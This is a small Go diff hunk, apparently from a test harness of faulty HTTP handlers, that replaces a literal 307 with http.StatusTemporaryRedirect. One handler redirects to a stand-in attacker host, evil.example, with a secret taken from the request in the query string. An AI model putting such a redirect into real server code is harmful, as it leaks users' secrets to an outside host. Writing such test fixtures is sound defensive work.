@@ -263,7 +263,7 @@ func (j *journey) fail(id string) {
 			_, _ = io.WriteString(w, "not valid: "+acme.SecretOf(r))
 		},
 		func(w http.ResponseWriter, r *http.Request) {
-			http.Redirect(w, r, "http://evil.example/?key="+url.QueryEscape(acme.SecretOf(r)), 307)
+			http.Redirect(w, r, "http://evil.example/?key="+url.QueryEscape(acme.SecretOf(r)), http.StatusTemporaryRedirect)
 		},
 		func(w http.ResponseWriter, r *http.Request) { panic(http.ErrAbortHandler) },
 		func(w http.ResponseWriter, r *http.Request) {
